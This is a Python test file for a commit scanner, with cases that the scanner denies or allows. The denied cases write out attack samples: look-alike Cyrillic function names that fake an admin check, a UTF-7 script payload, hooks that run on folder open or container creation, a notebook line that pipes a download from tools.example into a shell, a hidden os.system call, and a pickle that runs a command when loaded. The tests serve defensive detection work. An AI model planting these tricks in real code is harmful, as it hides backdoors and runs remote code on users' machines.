"""Attacks by text: names that look like others, code that nobody sees or calls, and what is harmless about both."""

from __future__ import annotations

from tests.bypass.scene import CLEAN, FLAW, Scene, allowed, denied
from tests.scanners.notebooks import cell, notebook

PATH = "services/ping.py"


@denied("confusable-name", PATH)
def a_function_with_a_cyrillic_letter(scene: Scene) -> None:
    """Two functions that read as one."""
    scene.commit({PATH: "def is_admin(user): return False\n\n\ndef is_\u0430dmin(user): return True\n"})


@denied("confusable-name", PATH)
def a_comparison_with_what_reads_as_admin(scene: Scene) -> None:
    scene.commit({PATH: "def allow(user):\n    return user.role == '\u0430dmin'\n"})


@denied("confusable-name", "web/env.js")
def a_letter_that_reads_as_an_exclamation_mark(scene: Scene) -> None:
    """It assigns where it seems to compare."""
    scene.commit({"web/env.js": "if (environment\u01c3=PROD) {\n  grant();\n}\n"})


@denied("confusable-name", PATH)
def a_module_all_in_another_alphabet(scene: Scene) -> None:
    scene.commit({PATH: "from services import \u0441\u043e\u0440\u0443\n"})


@denied("confusable-name", "s\u0435rvices/refund.py")
def a_second_folder_of_the_same_look(scene: Scene) -> None:
    scene.commit({"s\u0435rvices/refund.py": CLEAN})


@denied("foreign-encoding", "web/page.html")
def a_page_in_utf_7(scene: Scene) -> None:
    scene.commit({"web/page.html": '<meta charset="utf-7">\n<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>\n'})


@denied("line-end", "web/app.js")
def a_line_separator_behind_a_comment(scene: Scene) -> None:
    """JavaScript ends the comment there, editors do not."""
    scene.commit({"web/app.js": "// nothing to see\u2028grant();\n"})


@denied("runs-by-itself", ".vscode/tasks.json")
def a_task_that_runs_when_the_folder_is_opened(scene: Scene) -> None:
    scene.commit({".vscode/tasks.json": '{"tasks": [{"command": "id", "runOptions": {"runOn": "folderOpen"}}]}\n'})


@denied("runs-by-itself", ".envrc")
def a_file_that_a_shell_runs_on_entering(scene: Scene) -> None:
    scene.commit({".envrc": "export PATH=$PWD/bin:$PATH\n"})


@denied("runs-by-itself", "lib/sitecustomize.py")
def a_module_that_python_imports_at_its_start(scene: Scene) -> None:
    scene.commit({"lib/sitecustomize.py": "LIMIT = 1\n"})


@denied("runs-by-itself", "web/.npmrc")
def settings_of_a_package_manager(scene: Scene) -> None:
    scene.commit({"web/.npmrc": "script-shell=./tool\n"})


@denied("runs-by-itself", "fixtures/repo/config")
def a_bare_repository_with_a_program_for_git(scene: Scene) -> None:
    scene.commit({"fixtures/repo/config": "[core]\n\tbare = true\n\tfsmonitor = ./tool\n"})


@denied("runs-by-itself", ".devcontainer/devcontainer.json")
def a_copy_of_prose_into_the_place_where_it_runs(scene: Scene) -> None:
    """At the base the same text ran nowhere."""
    scene.repo.switch("main")
    scene.repo.commit("Ours", {"docs/devcontainer.txt": '{"postCreateCommand": "id"}\n'})
    scene.repo.branch("more", "main")
    scene.commit(
        {"docs/devcontainer.txt": None, ".devcontainer/devcontainer.json": '{"postCreateCommand": "id"}\n'}
    )


@denied("attributes-touched", ".gitattributes")
def a_macro_that_hides_differences(scene: Scene) -> None:
    scene.commit({".gitattributes": "[attr]data -diff\n*.py data\n"})


@denied("suppression-marker", PATH)
def a_marker_of_a_rarer_tool(scene: Scene) -> None:
    scene.commit({PATH: "x = 1  # no-dd-sa:python-security/os-system\n"})


@denied("bidi-control", "services/many.js")
def turned_text_among_too_many_long_lines(scene: Scene) -> None:
    """What only warns does not crowd out what denies."""
    wide = "".join(f"a({number});{' ' * 120}b();\n" for number in range(1_100))
    scene.commit({"services/many.js": f"{wide}// \u202e\n"})


@denied("finding", "lab/a.ipynb")
def a_flaw_in_a_notebook(scene: Scene) -> None:
    scene.commit({"lab/a.ipynb": notebook(cell("# Ping\n", "markdown"), FLAW)})


@denied("finding", "lab/a.ipynb")
def a_download_that_a_notebook_hands_to_a_shell(scene: Scene) -> None:
    scene.commit({"lab/a.ipynb": notebook("x = 1\n!curl -s http://tools.example/install | sh\n")})


@denied("finding", "lab/a.ipynb")
def a_flaw_that_is_timed(scene: Scene) -> None:
    scene.commit(
        {"lab/a.ipynb": notebook("import subprocess, sys", "%time subprocess.call(sys.argv[1], shell=True)")}
    )


@denied("path-unread", "lab/a.ipynb")
def a_cell_between_two_halves_of_a_string(scene: Scene) -> None:
    """Put together it is text; IPython runs each cell alone."""
    scene.commit({"lab/a.ipynb": notebook("x = '''", FLAW, "'''")})


@denied("path-unread", "lab/a.ipynb")
def a_command_that_swallows_the_lines_below_it(scene: Scene) -> None:
    swallowed = "try:\n    %time '''\nexcept BaseException:\n    pass\nimport os; os.system('id') # '''"
    scene.commit({"lab/a.ipynb": notebook(swallowed)})


@denied("path-unread", "lab/a.ipynb")
def a_magic_that_nobody_here_knows(scene: Scene) -> None:
    scene.commit({"lab/a.ipynb": notebook("%%perl\nsystem('id')")})


@denied("path-unread", "lab/a.ipynb")
def a_notebook_with_two_sources_in_one_cell(scene: Scene) -> None:
    twice = notebook("x = 1").replace('"source"', '"source": ["import os"],\n   "source"')
    scene.commit({"lab/a.ipynb": twice})


@denied("suppression-marker", "lab/a.ipynb")
def a_marker_spelt_in_escapes_of_json(scene: Scene) -> None:
    scene.commit({"lab/a.ipynb": notebook("x = 1  # nosec").replace("nosec", "\\u006eosec")})


@denied("path-unread", "services/state.txt")
def a_pickle_in_plain_text(scene: Scene) -> None:
    """It runs what it names when it is loaded."""
    scene.commit({"services/state.txt": "cos\nsystem\n(S'id'\ntR."})


@denied("path-unread", "assets/model.md")
def a_pointer_of_git_annex(scene: Scene) -> None:
    scene.commit({"assets/model.md": "/annex/objects/SHA256E-s1048576--00.bin\n"})


@allowed
def names_and_comments_in_russian(scene: Scene) -> None:
    text = "# c\u0442\u0440\u043e\u043a\u0430 \u0438 html-\u0441\u0442\u0440\u0430\u043d\u0438\u0446\u0430\n"
    scene.commit({"services/ru.py": f"{text}\u0441\u0443\u043c\u043c\u0430 = 1\n\u0440\u043e\u0441\u0430 = 2\n"})


@allowed
def mathematics_in_greek(scene: Scene) -> None:
    scene.commit(
        {"services/physics.py": "\u03c1 = 1.0\nd\u03c1 = 2.0\n\u0394t = 0.1\n\u03b1_s = \u03c1 * \u0394t\n"}
    )


@allowed
def comments_in_chinese(scene: Scene) -> None:
    scene.commit({"services/zh.py": "# \u9000\u6b3e\u51fd\u6570\uff0cDB\u8fde\u63a5\nLIMIT = 1\n"})


@allowed
def a_page_that_declares_latin_1(scene: Scene) -> None:
    scene.commit({"web/page.html": '<meta charset="iso-8859-1">\n<p>Plain</p>\n'})


@allowed
def a_test_s_fixtures_and_a_build_file(scene: Scene) -> None:
    """They run in a build: told, and in this tier no more."""
    scene.commit({"tests/conftest.py": "LIMIT = 1\n", "Makefile": "all:\n\techo done\n"})


@allowed
def a_script_that_somebody_calls(scene: Scene) -> None:
    scene.commit(
        {"web/package.json": '{"name": "web", "scripts": {"start": "node app.js", "test": "node --test"}}\n'}
    )


@allowed
def a_minified_file_in_the_lowest_tier(scene: Scene) -> None:
    scene.commit({"web/app.min.js": "var a=1;" * 1_000 + "\n"})


@allowed
def editor_settings_that_run_nothing(scene: Scene) -> None:
    scene.commit({".vscode/settings.json": '{"editor.tabSize": 4, "files.eol": "\\n"}\n'})


@allowed
def a_notebook_of_everyday_work(scene: Scene) -> None:
    """Charts, packages, a directory, questions and timing."""
    code = "%matplotlib inline\n!pip install pandas==2.2.0\nfiles = !ls data\nlen?\n%time sum(range(10))\n100 % 7\n"
    scene.commit({"lab/a.ipynb": notebook(cell("# Refunds\n", "markdown"), code, "%%bash\nls data\n")})


@allowed
def a_new_cell_above_an_old_flaw_of_a_notebook(scene: Scene) -> None:
    scene.repo.switch("main")
    scene.repo.commit("Ours", {"lab/a.ipynb": notebook(FLAW)})
    scene.repo.branch("more", "main")
    scene.commit({"lab/a.ipynb": notebook("LIMIT = 1\n", FLAW)})
